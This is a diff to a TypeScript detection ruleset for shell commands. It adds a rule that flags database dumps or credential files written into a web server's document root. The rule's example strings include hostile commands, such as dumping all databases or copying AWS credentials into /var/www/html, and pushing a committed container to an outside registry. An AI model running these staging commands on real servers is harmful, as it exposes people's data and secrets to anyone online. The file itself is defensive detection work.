@@ -183,7 +183,7 @@ function producerSource(u: SimpleCommand, input: AnalysisInput): Source | undefi
  * A search or document store read out wholesale over HTTP: Elasticsearch/OpenSearch `_search` for
  * everything or thousands of hits, CouchDB `_all_docs`, Solr `select?q=*:*`.
  */
-function datastoreDump(word: string): boolean {
+export function datastoreDump(word: string): boolean {
   if (word.length > 4096 || !/^https?:\/\//.test(word)) return false;
   let url: URL;
   try {
@@ -960,6 +960,9 @@ function copiesBetweenBuckets(c: SimpleCommand): boolean {
   return whole && buckets.size > 1 && owners.size > 1;
 }
 
+/** A web server's document root: the distributions' defaults, and any htdocs or public_html. */
+const SERVED_ROOT = /^\/(?:var\/www|srv\/(?:www|http)|usr\/share\/nginx\/html|usr\/local\/apache2\/htdocs)\/|\/(?:htdocs|public_html)\//;
+
 /** A file or folder named for people's records or for production data and its copies. */
 const PEOPLE_OR_PRODUCTION_DATA = /customer|user|client|patient|member|employee|account|pii|crm|prod|export|dump|backup|\.sql$/i;
 
@@ -1353,6 +1356,22 @@ export const RULES: readonly Rule[] = [
     examples: {
       fire: ['docker commit $(docker ps -qf name=api) docker.io/xr0ot/snap:1 && docker push docker.io/xr0ot/snap:1', 'podman commit -m dbg web registry.example.net/x/web:dbg; podman push registry.example.net/x/web:dbg'],
       quiet: ['docker commit api api-debug:1', 'docker build -t ghcr.io/acme/api:1.2 . && docker push ghcr.io/acme/api:1.2', 'docker push ghcr.io/acme/api:1.2'],
+    },
+  },
+  {
+    id: 'PX-EXFIL-025', name: 'stages-data-in-web-root', score: 75, tactic: 'exfiltration', technique: 'T1074.001',
+    message: "Writes a database dump, an archive of data or a credential file into a web server's document root",
+    why: 'Whatever sits under the document root is one HTTP request away for anyone who knows its name: a dump or a key left there is how data walks out of a server without a single outbound connection to notice.',
+    alternative: 'Write dumps to the backup directory, outside anything the web server serves.',
+    check: (i) => [...stagedFiles(i)].filter(([f]) => SERVED_ROOT.test(f)).flatMap(([f, writer]) => {
+      // what the writer was fed through its pipe too, and what ran inside a container there (`docker exec db pg_dump … | gzip > …`)
+      const feeders = [writer, ...upstream(writer, i)];
+      const from = [...feeders, ...feeders.flatMap((u) => nestedIn(u, i))].map((u) => producerSource(u, i)).find((x) => x !== undefined && (x.kind === 'bulk' || x.kind === 'secret'));
+      return from ? [`${from.evidence} → ${f}`] : [];
+    }),
+    examples: {
+      fire: ['docker exec $(docker ps -qf name=postgres) pg_dump -U app appdb | gzip > /var/www/html/uploads/.a.gz', 'mysqldump --all-databases > /usr/share/nginx/html/db.sql', 'cp ~/.aws/credentials /var/www/html/c.txt'],
+      quiet: ['pg_dump appdb | gzip > /var/backups/pg/appdb.sql.gz', 'cp dist/index.html /var/www/html/index.html', 'tar czf /var/www/html/downloads/docs.tgz docs/'],
     },
   },
 ];
